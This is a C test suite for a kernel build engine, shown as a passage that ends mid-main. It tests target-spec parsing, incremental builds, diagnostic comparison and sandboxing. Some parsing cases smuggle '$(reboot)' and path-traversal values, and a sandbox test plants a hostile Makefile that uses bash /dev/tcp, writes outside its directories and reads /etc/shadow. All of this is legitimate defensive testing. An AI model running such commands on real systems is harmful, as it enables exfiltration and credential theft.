/*
 * The build engine on the kbuild-like fixture tree: target parsing, config
 * resolution, incremental builds in a reused O= directory, the exact set
 * of new diagnostics against the parent, and the sandbox holding a hostile
 * Makefile in.
 */
#include "autoconfig.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "engine/build.h"
#include "engine/diag.h"
#include "engine/repo.h"
#include "engine/run.h"
#include "tests/testlib.h"

static char *src_repo;   /* the fixture's history */
static char *fragments;  /* zeroday's shipped fragments */
static struct worktree *wt;
static char *worktree_dir;
static char *tools;
static bool sandbox;
static char *base, *c_warn, *c_move, *c_err, *c_after;

static char *fixture_path(const char *name)
{
	return g_build_filename(ZERODAY_SRCDIR, "tests", "data", name, NULL);
}

/* Rewrites @file of the fixture and commits it. */
static char *edit(const char *file, const char *text, const char *message)
{
	return testlib_commit(src_repo, file, text, message);
}

static void setup_history(void)
{
	g_autofree char *data = fixture_path("kbuild");
	g_autofree char *copy = g_strdup_printf("cp -a %s/. %s/", data, src_repo);
	g_autoptr(GError) error = NULL;
	int status;

	testlib_repo_init(src_repo);
	g_assert_true(g_spawn_command_line_sync(copy, NULL, NULL, &status, &error));
	g_free(testlib_git(src_repo, "add", "-A", NULL));
	g_free(testlib_git(src_repo, "commit", "-q", "-m", "base: with an old warning", NULL));
	base = testlib_git(src_repo, "rev-parse", "HEAD", NULL);
	c_warn = edit("src/net.c",
		      "int net_init(void);\n\nint net_init(void)\n{\n\tint ready = 1;\n"
		      "\tint fresh;\n\n\treturn ready - 1;\n}\n",
		      "net: a new unused variable");
	c_move = edit("src/old.c",
		      "int legacy(int x);\n\n/* Moved down by a comment. */\n\n"
		      "int legacy(int x)\n{\n\tint old;\n\n\treturn x - 1;\n}\n",
		      "old: move the old warning");
	c_err = edit("src/net.c",
		     "int net_init(void);\n\nint net_init(void)\n{\n\tint ready = 1;\n"
		     "\tint fresh;\n\n#ifdef CONFIG_NET_DEBUG\n\tundeclared_counter++;\n#endif\n"
		     "\treturn ready - 1;\n}\n",
		     "net: debug counter, broken when NET_DEBUG=y");
	c_after = edit("src/main.c",
		       "int net_init(void);\nint legacy(int x);\n\n/* An innocent change. */\n"
		       "int main(void)\n{\n\treturn net_init() + legacy(1);\n}\n",
		       "main: innocent");
}

struct built {
	struct build_output out;
	char *log;
	char *config;
};

static void built_free(struct built *b)
{
	build_output_clear(&b->out);
	g_free(b->log);
	g_free(b->config);
	g_free(b);
}

ZD_AUTOPTR_DEFINE(built, built_free)

static char **changes_since(const char *old_commit, const char *new_commit, void *data);

/* Checks out @oid and builds it for @spec in the target's persistent directory. */
static struct built *build(const char *oid, const char *spec)
{
	struct build_target t;
	struct built *b = g_new0(struct built, 1);
	g_autoptr(GError) error = NULL;
	g_autofree char *dirname = NULL;
	g_autofree char *builddir = NULL;
	g_autofree char *ccache = g_build_filename(testlib_scratch(), "ccache", NULL);
	static int n;

	g_assert_true(build_target_parse(&t, spec, fragments, &error));
	g_assert_no_error(error);
	g_assert_true(repo_worktree_checkout(wt, oid, 0, NULL, &error));
	dirname = build_target_dirname(&t);
	builddir = g_build_filename(testlib_scratch(), "build", dirname, NULL);
	b->log = g_strdup_printf("%s/log-%d", testlib_scratch(), ++n);
	b->config = g_strdup_printf("%s/config-%d", testlib_scratch(), n);
	{
		struct build_env env = {
			.srcdir = worktree_dir, .builddir = builddir, .log_path = b->log,
			.config_copy = b->config, .jobs = 2, .timeout_s = 300,
			.sandbox = sandbox, .ccache_dir = NULL, .tools_dir = tools,
			.commit = oid, .changes_since = changes_since,
		};

		(void)ccache;
		g_assert_true(build_run(&b->out, &t, &env, &error));
		g_assert_no_error(error);
	}
	build_target_clear(&t);
	return b;
}

static char **changes_since(const char *old_commit, const char *new_commit, void *data)
{
	return repo_worktree_diff(wt, old_commit, new_commit, NULL);
}

static char *show(const struct diag *d)
{
	return g_strdup_printf("%s %s:%u %s", diag_kind_name(d->kind), d->file, d->line, d->message);
}

/* Builds @oid and its parent, and checks the verdict and the new diagnostics. */
static void expect(const char *oid, const char *parent, const char *spec,
		   enum build_verdict verdict, const char *const *fresh)
{
	zd_autoptr(built) p = build(parent, spec);
	zd_autoptr(built) c = build(oid, spec);
	g_autoptr(GPtrArray) got = NULL;
	enum build_verdict v = build_compare(&c->out, &p->out, &got);

	g_test_message("%s on %s: %s", oid, spec, build_verdict_name(v));
	g_assert_cmpstr(build_verdict_name(v), ==, build_verdict_name(verdict));
	testlib_check_diags(got, fresh, show);
}

/*
 * kselftest=NAME check words: repeatable, x86_64 only, names checked;
 * they bring the shipped kselftest.config after the target's fragments,
 * and vm and mm name whichever directory the tree has.
 */
static void test_kselftest_targets(void)
{
	static const struct { const char *spec; bool ok; } cases[] = {
		{ "x86_64:tinyconfig+serial:kselftest=vm,kselftest=size", true },
		{ "x86_64:defconfig:W=1,kselftest=mm", true },
		{ "x86_64:tinyconfig:kselftest=", false },
		{ "x86_64:tinyconfig:kselftest=VM", false },
		{ "x86_64:tinyconfig:kselftest=../vm", false },
		{ "x86_64:tinyconfig:kselftest=vm/../..", false },
		{ "x86_64:tinyconfig:kselftest=$(reboot)", false },
		{ "arm64:tinyconfig+serial:kselftest=vm", false },
		{ "riscv:tinyconfig:kselftest=size", false },
	};
	g_autofree char *tree = testlib_mkdir("kselftest-tree");
	g_autofree char *mm = g_build_filename(tree, "tools/testing/selftests/mm", NULL);
	g_autofree char *size = g_build_filename(tree, "tools/testing/selftests/size", NULL);
	g_autofree char *timers = g_build_filename(tree, "tools/testing/selftests/timers", NULL);
	g_autofree char *dir = NULL;
	struct build_target t;

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GError) error = NULL;

		g_test_message("target %s", cases[i].spec);
		g_assert_cmpint(build_target_parse(&t, cases[i].spec, fragments, &error), ==,
				cases[i].ok);
		if (!cases[i].ok) {
			g_assert_error(error, ENGINE_ERROR, ENGINE_ERROR_INVALID);
			g_test_message("  %s", error->message);
		}
		build_target_clear(&t);
	}
	{
		g_autoptr(GError) error = NULL;

		g_assert_false(build_target_parse(&t, "arm64:tinyconfig:kselftest=vm", fragments,
						  &error));
		g_assert_nonnull(strstr(error->message, "x86_64 targets only"));
	}
	g_assert_true(build_target_parse(&t, "x86_64:tinyconfig+serial:kselftest=vm,kselftest=size,"
					 "kselftest=vm", fragments, NULL));
	g_assert_cmpuint(g_strv_length(t.kselftests), ==, 2);
	g_assert_cmpstr(t.kselftests[0], ==, "vm");
	g_assert_cmpstr(t.kselftests[1], ==, "size");
	g_assert_cmpuint(g_strv_length(t.fragments), ==, 2);
	g_assert_true(g_str_has_suffix(t.fragments[0], "/serial.config"));
	g_assert_true(g_str_has_suffix(t.fragments[1], "/kselftest.config"));
	g_assert_cmpint(t.checks, ==, 0);
	build_target_clear(&t);
	g_assert_true(build_target_parse(&t, "x86_64:tinyconfig", fragments, NULL));
	g_assert_nonnull(t.kselftests);
	g_assert_null(t.kselftests[0]);
	g_assert_cmpuint(g_strv_length(t.fragments), ==, 0);
	build_target_clear(&t);

	/* 6.3 renamed vm to mm: either name finds the one the tree has. */
	g_assert_cmpint(g_mkdir_with_parents(mm, 0755), ==, 0);
	g_assert_cmpint(g_mkdir_with_parents(size, 0755), ==, 0);
	dir = build_kselftest_dir(tree, "vm");
	g_assert_cmpstr(dir, ==, "mm");
	g_clear_pointer(&dir, g_free);
	dir = build_kselftest_dir(tree, "mm");
	g_assert_cmpstr(dir, ==, "mm");
	g_clear_pointer(&dir, g_free);
	dir = build_kselftest_dir(tree, "size");
	g_assert_cmpstr(dir, ==, "size");
	g_clear_pointer(&dir, g_free);
	g_assert_null(build_kselftest_dir(tree, "net"));
	/* A link in the tree is not a selftest directory. */
	g_assert_cmpint(symlink("/etc", timers), ==, 0);
	g_assert_null(build_kselftest_dir(tree, "timers"));
}

static void test_targets(void)
{
	static const struct { const char *spec; bool ok; } cases[] = {
		{ "x86_64:tinyconfig+serial", true },
		{ "x86_64:defconfig:W=1,sparse", true },
		{ "arm64:defconfig", true },
		{ "x86_64:randconfig@4153629", true },
		{ "x86_64:file=/etc/kernel.config+/tmp/frag.config", true },
		{ "x86_64:x86_64_defconfig:coccinelle", true },
		{ "x86_64", false },
		{ "vax:defconfig", false },
		{ "x86_64:randconfig", false },
		{ "x86_64:randconfig@x", false },
		{ "x86_64:file=relative", false },
		{ "x86_64:defconfig+nope", false },
		{ "x86_64:defconfig+../../etc/passwd", false },
		{ "x86_64:$(reboot)", false },
		{ "x86_64:-defconfig", false },
		{ "x86_64:defconfig:W=2", false },
		{ "arm64:tinyconfig+serial:LLVM=1", true },
		{ "riscv:tinyconfig+serial", true },
		{ "x86_64:defconfig:clang,W=1", true },
		{ "x86_64:defconfig:LLVM=2", false },
		{ "powerpc:tinyconfig+serial", true }, /* the shared fragment: x86's */
	};
	struct build_target t;

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GError) error = NULL;

		g_test_message("target %s", cases[i].spec);
		g_assert_cmpint(build_target_parse(&t, cases[i].spec, fragments, &error), ==,
				cases[i].ok);
		if (!cases[i].ok)
			g_assert_error(error, ENGINE_ERROR, ENGINE_ERROR_INVALID);
		build_target_clear(&t);
	}
	g_assert_true(build_target_parse(&t, "x86_64:randconfig@42+serial:W=1,sparse", fragments, NULL));
	g_assert_cmpuint(t.seed, ==, 42);
	g_assert_cmpstr(t.config, ==, "randconfig");
	g_assert_true(g_str_has_suffix(t.fragments[0], "/serial.config"));
	g_assert_cmpint(t.checks, ==, BUILD_W1 | BUILD_SPARSE);
	{
		g_autofree char *dir = build_target_dirname(&t);

		g_assert_cmpstr(dir, ==, "x86_64_randconfig_42_serial_W_1_sparse");
	}
	build_target_clear(&t);
	/* The shipped fragment for decoded traces, after serial. */
	g_assert_true(build_target_parse(&t, "x86_64:tinyconfig+serial+debuginfo", fragments, NULL));
	g_assert_true(g_str_has_suffix(t.fragments[0], "/serial.config"));
	g_assert_true(g_str_has_suffix(t.fragments[1], "/debuginfo.config"));
	build_target_clear(&t);

	/* +serial is the arch's own where it has one; LLVM=1 is a check-list word. */
	g_assert_true(build_target_parse(&t, "arm64:tinyconfig+serial+debuginfo:LLVM=1", fragments,
					 NULL));
	g_assert_true(g_str_has_suffix(t.fragments[0], "/arm64/serial.config"));
	g_assert_true(g_str_has_suffix(t.fragments[1], "/debuginfo.config"));
	g_assert_true(t.llvm);
	g_assert_cmpint(t.checks, ==, 0);
	build_target_clear(&t);
	g_assert_true(build_target_parse(&t, "riscv:tinyconfig+serial", fragments, NULL));
	g_assert_true(g_str_has_suffix(t.fragments[0], "/riscv/serial.config"));
	g_assert_false(t.llvm);
	g_assert_false(t.heads_only);
	build_target_clear(&t);
	g_assert_true(build_target_parse(&t, "riscv:tinyconfig+serial:W=1,heads", fragments, NULL));
	g_assert_true(t.heads_only);
	g_assert_cmpint(t.checks, ==, BUILD_W1);
	build_target_clear(&t);
	g_assert_true(build_spec_has_check("riscv:tinyconfig+serial:W=1,heads", "heads"));
	g_assert_false(build_spec_has_check("riscv:tinyconfig+heads", "heads"));
	g_assert_true(build_spec_has_check("arm64:defconfig:clang", "LLVM=1"));
	g_assert_false(build_spec_has_check("arm64:defconfig", "LLVM=1"));

	/* A daily seed: the same all day, another the next, written into the spec. */
	{
		g_autoptr(GDateTime) d1 = g_date_time_new_utc(2026, 12, 3, 1, 0, 0);
		g_autoptr(GDateTime) d1b = g_date_time_new_utc(2026, 12, 3, 23, 0, 0);
		g_autoptr(GDateTime) d2 = g_date_time_new_utc(2026, 12, 4, 1, 0, 0);
		struct build_target a, b, c;
		g_autofree char *dir = NULL;
		g_autofree char *expect = NULL;

		g_assert_true(build_target_parse(&a, "x86_64:randconfig@daily:W=1", fragments, NULL));
		g_assert_true(build_target_parse(&b, "x86_64:randconfig@daily:W=1", fragments, NULL));
		g_assert_true(build_target_parse(&c, "x86_64:randconfig@daily:W=1", fragments, NULL));
		build_target_daily(&a, "net", d1);
		build_target_daily(&b, "net", d1b);
		build_target_daily(&c, "net", d2);
		g_assert_cmpuint(a.seed, ==, b.seed);
		g_assert_cmpuint(a.seed, !=, c.seed);
		g_assert_cmpuint(a.seed, <=, G_MAXUINT32);
		expect = g_strdup_printf("x86_64:randconfig@%" G_GUINT64_FORMAT ":W=1", a.seed);
		g_assert_cmpstr(a.spec, ==, expect);
		dir = build_target_dirname(&a);
		g_assert_cmpstr(dir, ==, "x86_64_randconfig_daily_W_1");
		build_target_clear(&a);
		build_target_clear(&b);
		build_target_clear(&c);
	}
}

static void test_new_warning(void)
{
	const char *fresh[] = { "warning src/net.c:6 unused variable 'fresh' [-Wunused-variable]", NULL };

	expect(c_warn, base, "x86_64:defconfig", VERDICT_NEW_DIAGNOSTICS, fresh);
}

static void test_moved_warning(void)
{
	zd_autoptr(built) p = build(c_warn, "x86_64:defconfig");
	zd_autoptr(built) c = build(c_move, "x86_64:defconfig");
	g_autoptr(GPtrArray) got = NULL;
	g_autofree char *log = NULL;

	g_assert_cmpint(build_compare(&c->out, &p->out, &got), ==, VERDICT_PASS);
	g_assert_cmpuint(got->len, ==, 0);
	/* The old warning is still there, just not new. */
	g_assert_cmpuint(c->out.diags->len, ==, 2);
	/* Incremental: only the changed file was compiled again. */
	g_assert_true(g_file_get_contents(c->log, &log, NULL, NULL));
	g_assert_nonnull(strstr(log, "  CC      src/old.o"));
	g_assert_null(strstr(log, "  CC      src/net.o"));
	g_assert_null(strstr(log, "  CC      src/main.o"));
	/* No Kconfig change since the parent: the configuration was reused. */
	g_assert_null(strstr(log, "CONF"));
}

/* A Kconfig change makes the next build configure again. */
static void test_kconfig_change(void)
{
	g_autofree char *kconfig = g_build_filename(src_repo, "Kconfig", NULL);
	g_autofree char *text = NULL;
	g_autofree char *more = NULL;
	g_autofree char *c_kconf = NULL;
	g_autofree char *log = NULL;
	g_autofree char *config = NULL;
	zd_autoptr(built) b = NULL;

	g_assert_true(g_file_get_contents(kconfig, &text, NULL, NULL));
	more = g_strconcat(text, "EXTRA y\n", NULL);
	g_free(testlib_git(src_repo, "checkout", "-q", c_after, NULL));
	c_kconf = edit("Kconfig", more, "Kconfig: a new symbol");
	b = build(c_kconf, "x86_64:allnoconfig");
	g_assert_true(g_file_get_contents(b->log, &log, NULL, NULL));
	g_assert_nonnull(strstr(log, "CONF    allnoconfig"));
	g_assert_true(g_file_get_contents(b->config, &config, NULL, NULL));
	g_assert_nonnull(strstr(config, "# CONFIG_EXTRA is not set"));
}

static void test_error_one_config(void)
{
	const char *fresh[] = { "error src/net.c:9 'undeclared_counter' undeclared (first use in this function)", NULL };

	expect(c_err, c_move, "x86_64:defconfig", VERDICT_FAIL_NEW_ERROR, fresh);
	expect(c_err, c_move, "x86_64:allnoconfig", VERDICT_PASS, NULL);
}

/*
 * LLVM=1 natively: clang builds the same tree, its diagnostics parsed and
 * compared with the parent's like gcc's; a warning only clang gives is new
 * to the clang target and nothing to gcc's.
 */
static void test_clang_only(void)
{
	const char *fresh[] = { "warning src/old.c:15 variable 'y' is used uninitialized whenever "
				"'if' condition is false [-Wsometimes-uninitialized]", NULL };
	g_autofree char *c_clang = NULL;
	zd_autoptr(built) b = NULL;
	g_autofree char *log = NULL;

	g_free(testlib_git(src_repo, "checkout", "-q", c_after, NULL));
	c_clang = edit("src/old.c",
		       "int legacy(int x);\nint maybe(int x);\n\nint legacy(int x)\n{\n\tint old;\n\n"
		       "\treturn x - 1;\n}\n\nint maybe(int x)\n{\n\tint y;\n\n\tif (x)\n\t\ty = 1;\n"
		       "\treturn y;\n}\n",
		       "old: a variable set on one path only");
	expect(c_clang, c_after, "x86_64:allnoconfig:LLVM=1", VERDICT_NEW_DIAGNOSTICS, fresh);
	expect(c_clang, c_after, "x86_64:allnoconfig", VERDICT_PASS, NULL);
	b = build(c_clang, "x86_64:allnoconfig:LLVM=1");
	g_assert_true(g_file_get_contents(b->log, &log, NULL, NULL));
	g_assert_nonnull(strstr(log, " LLVM=1 CC=/"));
	g_assert_nonnull(strstr(log, "zeroday-cc clang"));
}

static void test_parent_failing(void)
{
	expect(c_after, c_err, "x86_64:defconfig", VERDICT_FAIL_PARENT_FAILING, NULL);
}

/* Whether @diags holds a diagnostic of @file whose message contains @text. */
static bool has_diag(GPtrArray *diags, const char *file, const char *text)
{
	for (guint i = 0; i < diags->len; i++) {
		const struct diag *d = diags->pdata[i];

		if (strcmp(d->file, file) == 0 && strstr(d->message, text))
			return true;
	}
	return false;
}

/*
 * W=1's kernel-doc runs only on the files a build compiles, its output in
 * the log alone. A parent that compiled only main.c and a child that
 * compiles old.c (a comment at its end) both have old.c's old kernel-doc
 * warning: kept beside old.o, it is not new. The commit that brought it
 * is still told.
 */
static void test_log_only_kept(void)
{
	const char *spec = "x86_64:allnoconfig:W=1";
	const char *fresh[] = { "warning src/old.c:3 Function parameter or member 'x' not "
				"described in 'legacy'", NULL };
	g_autofree char *c_doc = NULL, *c_main = NULL, *c_tail = NULL;
	g_autoptr(GPtrArray) got = NULL;

	g_free(testlib_git(src_repo, "checkout", "-q", c_after, NULL));
	c_doc = edit("src/old.c",
		     "int legacy(int x);\n\n/* KDOC(legacy) */\n\nint legacy(int x)\n{\n\tint old;\n\n"
		     "\treturn x - 1;\n}\n",
		     "old: a comment kernel-doc does not like");
	c_main = edit("src/main.c",
		      "int net_init(void);\nint legacy(int x);\n\n/* Innocent again. */\n"
		      "int main(void)\n{\n\treturn net_init() + legacy(1);\n}\n",
		      "main: innocent again");
	c_tail = edit("src/old.c",
		      "int legacy(int x);\n\n/* KDOC(legacy) */\n\nint legacy(int x)\n{\n\tint old;\n\n"
		      "\treturn x - 1;\n}\n/* The end. */\n",
		      "old: a comment at the end");
	expect(c_doc, c_after, spec, VERDICT_NEW_DIAGNOSTICS, fresh);
	{
		zd_autoptr(built) p = build(c_main, spec);
		zd_autoptr(built) c = build(c_tail, spec);
		g_autofree char *log = NULL;

		/* The parent did not compile old.c, the child did: */
		g_assert_true(g_file_get_contents(p->log, &log, NULL, NULL));
		g_assert_null(strstr(log, "  CC      src/old.o"));
		g_clear_pointer(&log, g_free);
		g_assert_true(g_file_get_contents(c->log, &log, NULL, NULL));
		g_assert_nonnull(strstr(log, "  CC      src/old.o"));
		/* yet both have the warning, and nothing is new. */
		g_assert_true(has_diag(p->out.diags, "src/old.c", "not described in 'legacy'"));
		g_assert_true(has_diag(c->out.diags, "src/old.c", "not described in 'legacy'"));
		g_assert_cmpint(build_compare(&c->out, &p->out, &got), ==, VERDICT_PASS);
		g_assert_cmpuint(got->len, ==, 0);
	}
	/* Fixed: compiled again without it, the kept copy goes too. */
	{
		g_autofree char *c_fix = edit("src/old.c",
					      "int legacy(int x);\n\n/* Documented. */\n\nint legacy(int x)"
					      "\n{\n\tint old;\n\n\treturn x - 1;\n}\n/* The end. */\n",
					      "old: the comment fixed");
		zd_autoptr(built) b = build(c_fix, spec);

		g_assert_false(has_diag(b->out.diags, "src/old.c", "not described"));
	}
}

/*
 * An object whose source is gone (built at a later commit, in the same
 * directory, as a bisection step goes back) is a leftover: its kept
 * diagnostics are not this commit's.
 */
static void test_leftover_object(void)
{
	const char *spec = "x86_64:allnoconfig";
	const char *fresh[] = { "warning src/extra.c:4 unused variable 'leftover' [-Wunused-variable]",
				NULL };
	g_autofree char *c_extra = NULL;

	g_free(testlib_git(src_repo, "checkout", "-q", c_after, NULL));
	c_extra = edit("src/extra.c", "int extra(void);\nint extra(void)\n{\n\tint leftover;\n"
				     "\treturn 0;\n}\n", "extra: a new file with a warning");
	expect(c_extra, c_after, spec, VERDICT_NEW_DIAGNOSTICS, fresh);
	{
		zd_autoptr(built) b = build(c_after, spec);
		g_autofree char *object = NULL;
		g_autofree char *dirname = NULL;
		struct build_target t;

		g_assert_true(build_target_parse(&t, spec, fragments, NULL));
		dirname = build_target_dirname(&t);
		build_target_clear(&t);
		object = g_build_filename(testlib_scratch(), "build", dirname, "src", "extra.o", NULL);
		/* kbuild left the object; its warning is not the older commit's. */
		g_assert_true(g_file_test(object, G_FILE_TEST_EXISTS));
		g_assert_cmpuint(b->out.status, ==, BUILD_OK);
		g_assert_false(has_diag(b->out.diags, "src/extra.c", "leftover"));
	}
}

/*
 * A parent that failed never linked: the child's link warnings (modpost
 * here) are not new against it. A compiler warning compares as ever.
 */
static struct diag *one_diag(const char *checker, const char *file, const char *message,
			     const char *fingerprint)
{
	struct diag *d = g_new0(struct diag, 1);

	d->kind = DIAG_WARNING;
	d->checker = g_strdup(checker);
	d->file = g_strdup(file);
	d->message = g_strdup(message);
	d->fingerprint = g_strdup(fingerprint);
	return d;
}

static void test_failed_parent_warnings(void)
{
	struct build_output parent = { .status = BUILD_FAILED };
	struct build_output child = { .status = BUILD_OK };
	g_autoptr(GPtrArray) got = NULL;

	parent.diags = g_ptr_array_new_with_free_func((GDestroyNotify)diag_free);
	child.diags = g_ptr_array_new_with_free_func((GDestroyNotify)diag_free);
	g_ptr_array_add(child.diags, one_diag("modpost", "", "modpost: vmlinux: section mismatch "
					      "in reference: f (section: .text) -> g (section: "
					      ".init.text)", "0123456789abcdef"));
	g_ptr_array_add(child.diags, one_diag("compiler", "src/late.c",
					      "unused variable 'late' [-Wunused-variable]",
					      "fedcba9876543210"));
	g_assert_cmpint(build_compare(&child, &parent, &got), ==, VERDICT_NEW_DIAGNOSTICS);
	g_assert_cmpuint(got->len, ==, 1);
	if (got->len == 1)
		g_assert_cmpstr(((struct diag *)got->pdata[0])->checker, ==, "compiler");
	g_clear_pointer(&got, g_ptr_array_unref);
	/* Against a parent that built, both are new. */
	parent.status = BUILD_OK;
	g_assert_cmpint(build_compare(&child, &parent, &got), ==, VERDICT_NEW_DIAGNOSTICS);
	g_assert_cmpuint(got->len, ==, 2);
	g_ptr_array_unref(parent.diags);
	g_ptr_array_unref(child.diags);
}

/*
 * A build directory kept by a zeroday of another BUILD_DIAG_VERSION lacks
 * what this one keeps beside its objects: it is built afresh.
 */
static void test_diag_version_wipes(void)
{
	const char *spec = "x86_64:allnoconfig";
	struct build_target t;
	g_autofree char *dirname = NULL;
	g_autofree char *marker = NULL;
	g_autofree char *text = NULL;
	g_autofree char *log = NULL;

	g_assert_true(build_target_parse(&t, spec, fragments, NULL));
	dirname = build_target_dirname(&t);
	build_target_clear(&t);
	marker = g_strdup_printf("%s/build/%s.zeroday-kept", testlib_scratch(), dirname);
	{
		zd_autoptr(built) b = build(c_after, spec);

		g_assert_true(g_file_get_contents(marker, &text, NULL, NULL));
		g_assert_cmpstr(text, ==, G_STRINGIFY(BUILD_DIAG_VERSION) "\n");
	}
	{
		zd_autoptr(built) b = build(c_after, spec);

		g_assert_true(g_file_get_contents(b->log, &log, NULL, NULL));
		g_assert_null(strstr(log, "  CC      src/main.o"));
	}
	g_assert_true(g_file_set_contents(marker, "1\n", -1, NULL));
	{
		zd_autoptr(built) b = build(c_after, spec);

		g_clear_pointer(&log, g_free);
		g_assert_true(g_file_get_contents(b->log, &log, NULL, NULL));
		g_assert_nonnull(strstr(log, "  CC      src/main.o"));
		g_assert_cmpuint(b->out.status, ==, BUILD_OK);
	}
}

static void test_configs(void)
{
	g_autofree char *frag = g_build_filename(testlib_scratch(), "net.config", NULL);
	g_autofree char *spec = NULL;
	g_autofree char *a = NULL, *b = NULL, *merged = NULL;
	zd_autoptr(built) r1 = build(base, "x86_64:randconfig@7");
	zd_autoptr(built) r2 = build(base, "x86_64:randconfig@7");
	zd_autoptr(built) m = NULL;

	/* A seed reproduces its randconfig. */
	g_assert_true(g_file_get_contents(r1->config, &a, NULL, NULL));
	g_assert_true(g_file_get_contents(r2->config, &b, NULL, NULL));
	g_assert_cmpstr(a, ==, b);
	g_assert_cmpstr(a, ==, "CONFIG_TINY=y\n# CONFIG_NET is not set\n# CONFIG_NET_DEBUG is not set\n"
			       "CONFIG_LEGACY=y\n");

	/* A fragment is merged over the base config. */
	g_assert_true(g_file_set_contents(frag, "CONFIG_NET=y\n# CONFIG_LEGACY is not set\n", -1, NULL));
	spec = g_strdup_printf("x86_64:allnoconfig+%s", frag);
	m = build(base, spec);
	g_assert_cmpint(m->out.status, ==, BUILD_OK);
	g_assert_true(g_file_get_contents(m->config, &merged, NULL, NULL));
	g_assert_cmpstr(merged, ==, "# CONFIG_TINY is not set\nCONFIG_NET=y\n"
				    "# CONFIG_NET_DEBUG is not set\n# CONFIG_LEGACY is not set\n");
}

/* Debian 12 packages no LoongArch compiler: such a target is skipped, saying why. */
static void test_no_cross_compiler(void)
{
	g_autofree char *gcc = run_find_program("loongarch64-linux-gnu-gcc");
	zd_autoptr(built) b = NULL;

	g_assert_null(gcc);
	b = build(base, "loongarch:defconfig");
	g_assert_cmpint(b->out.status, ==, BUILD_SKIPPED);
	g_assert_cmpstr(b->out.reason, ==, "skipped: no compiler for loongarch");
}

/*
 * The reproduce lines: ARCH= always, CROSS_COMPILE= with Debian's prefix
 * for any arch but x86 (as make.cross does), LLVM=1 without a prefix.
 */
static void test_reproduce_lines(void)
{
	static const struct { const char *spec, *line; } cases[] = {
		{ "x86_64:defconfig", "make O=build ARCH=x86_64 defconfig && "
				      "make O=build ARCH=x86_64 -j$(nproc)" },
		{ "arm64:defconfig:W=1", "make O=build ARCH=arm64 CROSS_COMPILE=aarch64-linux-gnu- "
					 "defconfig && make O=build ARCH=arm64 "
					 "CROSS_COMPILE=aarch64-linux-gnu- W=1 -j$(nproc)" },
		{ "riscv:allnoconfig", "make O=build ARCH=riscv CROSS_COMPILE=riscv64-linux-gnu- "
				       "allnoconfig && make O=build ARCH=riscv "
				       "CROSS_COMPILE=riscv64-linux-gnu- -j$(nproc)" },
		{ "mips:defconfig", "make O=build ARCH=mips CROSS_COMPILE=mips64el-linux-gnuabi64- "
				    "defconfig && make O=build ARCH=mips "
				    "CROSS_COMPILE=mips64el-linux-gnuabi64- -j$(nproc)" },
		{ "arm64:defconfig:LLVM=1", "make O=build LLVM=1 ARCH=arm64 defconfig && "
					    "make O=build LLVM=1 ARCH=arm64 -j$(nproc)" },
		{ "arm64:tinyconfig+serial:clang",
		  "mkdir -p build && zcat config.gz > build/.config && make O=build LLVM=1 ARCH=arm64 "
		  "olddefconfig && make O=build LLVM=1 ARCH=arm64 -j$(nproc)" },
	};

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct build_target t;
		g_autofree char *line = NULL;

		g_assert_true(build_target_parse(&t, cases[i].spec, fragments, NULL));
		line = build_reproduce_command(&t, "config.gz");
		g_assert_cmpstr(line, ==, cases[i].line);
		build_target_clear(&t);
	}
}

/* The compiler a report names: the arch's cross gcc, or clang for LLVM=1. */
static void test_compiler_version(void)
{
	g_autofree char *gcc = build_compiler_version("x86_64:tinyconfig");
	g_autofree char *cross = build_compiler_version("arm64:tinyconfig+serial:W=1");
	g_autofree char *clang = build_compiler_version("arm64:tinyconfig:W=1,LLVM=1");
	g_autofree char *none = build_compiler_version("loongarch:defconfig");

	g_assert_nonnull(strstr(gcc, "gcc"));
	g_assert_true(g_str_has_prefix(cross, "aarch64-linux-gnu-gcc "));
	g_assert_nonnull(strstr(clang, "clang version "));
	g_assert_null(none);
}

/* A Makefile that reaches for the network and writes outside its directories. */
static void test_hostile_makefile(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	socklen_t len = sizeof(sa);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	g_autofree char *outside = testlib_mkdir("outside");
	g_autofree char *makefile = NULL;
	g_autofree char *orig = NULL;
	g_autofree char *evil = NULL;
	g_autofree char *escaped = g_build_filename(outside, "escaped", NULL);
	g_autofree char *in_src = g_build_filename(worktree_dir, "pwned", NULL);
	g_autofree char *log = NULL;
	zd_autoptr(built) b = NULL;
	g_autofree char *mk = g_build_filename(src_repo, "Makefile", NULL);

	if (!sandbox) {
		g_test_skip("no sandbox on this machine (see /run/sandbox)");
		return;
	}
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	g_assert_cmpint(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), ==, 0);
	g_assert_cmpint(listen(fd, 8), ==, 0);
	g_assert_cmpint(getsockname(fd, (struct sockaddr *)&sa, &len), ==, 0);
	g_assert_true(g_file_get_contents(mk, &orig, NULL, NULL));
	makefile = g_strdup_printf(
		"%s\nall: escape\nescape:\n"
		"\t-@bash -c 'echo hello > /dev/tcp/127.0.0.1/%d' && echo NETWORK-REACHED\n"
		"\t-@touch %s && echo OUTSIDE-WRITTEN\n"
		"\t-@touch pwned && echo SOURCE-WRITTEN\n"
		"\t-@cat /etc/shadow && echo SHADOW-READ\n",
		orig, ntohs(sa.sin_port), escaped);
	evil = edit("Makefile", makefile, "Makefile: reach out");
	b = build(evil, "x86_64:defconfig");
	g_assert_true(g_file_get_contents(b->log, &log, NULL, NULL));
	g_test_message("%s", log);
	g_assert_null(strstr(log, "NETWORK-REACHED"));
	g_assert_null(strstr(log, "OUTSIDE-WRITTEN"));
	g_assert_null(strstr(log, "SOURCE-WRITTEN"));
	g_assert_null(strstr(log, "SHADOW-READ"));
	g_assert_false(g_file_test(escaped, G_FILE_TEST_EXISTS));
	g_assert_false(g_file_test(in_src, G_FILE_TEST_EXISTS));
	g_assert_cmpint(accept(fd, NULL, NULL), ==, -1);
	close(fd);
}

int main(int argc, char **argv)
{
	struct repo_limits limits = { 0 };
	g_autoptr(GError) error = NULL;
	g_autofree char *git_dir = NULL;
	int rc;

	testlib_init(&argc, &argv);
	g_assert_cmpint(chmod(testlib_scratch(), 0711), ==, 0);
	if (!repo_global_init(&limits, &error))
		g_error("%s", error->message);
	sandbox = run_sandbox_available(&error);
	if (!sandbox)
